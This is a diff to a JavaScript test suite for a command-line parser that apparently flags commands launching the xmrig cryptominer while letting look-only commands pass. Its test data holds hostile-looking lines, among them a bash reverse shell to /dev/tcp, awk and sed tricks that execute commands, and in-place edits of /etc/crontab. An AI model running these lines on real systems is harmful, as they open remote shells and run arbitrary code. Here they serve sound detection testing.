@@ -16,6 +16,23 @@ describe('a command line', () => {
     'sh -c ls /tmp/xmrig 2>&1 >/dev/null',
     'sh -c grep xmrig <(ps aux)',
     'grep -E (xmrig|minerd) /tmp/a',
+    'find / -name xmrig -type f',
+    'find / ( -name xmrig -o -name minerd ) -exec ls -l {} ;',
+    'find / -type f -exec grep -l xmrig {} +',
+    'sh -c find / -type f -exec sh -c \'grep -l xmrig "$1" | cut -d: -f1\' _ {} \\;',
+    'sh -c find /tmp -type f | xargs -r -n 1 grep -l xmrig',
+    'sh -c ls /proc | xargs -I {} grep -l xmrig /proc/{}/cmdline',
+    'sh -c if grep -q xmrig /tmp/a; then ls -l /tmp/xmrig; else ! pgrep xmrig; fi',
+    'sh -c { grep xmrig /tmp/a; }',
+    'sh -c ( grep xmrig /tmp/a )',
+    'sh -c [ -x /tmp/xmrig ] && test -f /tmp/xmrig && [[ -d /opt/xmrig ]]',
+    'sed -n /xmrig/p /etc/crontab',
+    'awk /xmrig/ /etc/crontab',
+    "sh -c tr '\\0' ' ' </proc/7/cmdline",
+    'command -v xmrig',
+    'command -V xmrig',
+    'sudo -u nobody timeout 5 grep -r xmrig /etc',
+    'xargs',
   ];
   for (const line of looks) {
     it(`only looks: ${line}`, () => {
@@ -45,6 +62,13 @@ describe('a command line', () => {
     ['sh -c case a in a) xmrig;; esac', 'xmrig'],
     ['ls; bash -c "ps; xmrig"', 'xmrig'],
     ['sh -c xm\\\nrig', 'xmrig'],
+    ['find /tmp -name a -exec xmrig -o b ;', 'xmrig'],
+    ['find / -exec grep -q a {} ; -exec /tmp/xmrig {} ;', 'xmrig'],
+    ["find / -exec sh -c 'ls; xmrig' {} ;", 'xmrig'],
+    ['sh -c ls | xargs -n 1 xmrig', 'xmrig'],
+    ['command xmrig', 'xmrig'],
+    ['sh -c ! xmrig', 'xmrig'],
+    ['sh -c for f in a b; do xmrig -c $f; done', 'xmrig'],
   ];
   for (const [line, program] of acts) {
     it(`runs something: ${line}`, () => assert.ok(programsOf(line).includes(program), String(programsOf(line))));
@@ -56,12 +80,22 @@ describe('a command line', () => {
     for (const ps of ['/tmp/ps', './ps', '/opt/ps', '/tmp/usr/bin/ps']) assert.deepEqual(actingParts(ps), [ps]);
   });
 
+  it('does more than look where it is told to run, or to write, what it finds', () => {
+    for (const line of [
+      `awk 'BEGIN{system("id")}'`,
+      `awk '{print | "sh"}' a`,
+      `awk 'BEGIN{"id" | getline a}'`,
+      'sed -i s/a/b/ /etc/crontab',
+      'sed -ni.old s/a/b/ /etc/crontab',
+      "sed 's/a/id/e' b",
+      "sed '1e id' b",
+    ]) {
+      assert.equal(actingParts(line).join(''), line);
+    }
+  });
+
   it('is taken apart outside of quotes alone', () => {
-    assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tr a b`), [
-      'echo "a; b" ',
-      "; echo 'c | d' ",
-      '| tr a b',
-    ]);
+    assert.deepEqual(actingParts(`echo "a; b" ; echo 'c | d' | tee e`), ['echo "a; b" ', "; echo 'c | d' ", '| tee e']);
     assert.deepEqual(actingParts('bash -i >& /dev/tcp/h/1 0>&1'), ['bash -i >& /dev/tcp/h/1 0>&1']);
   });
 
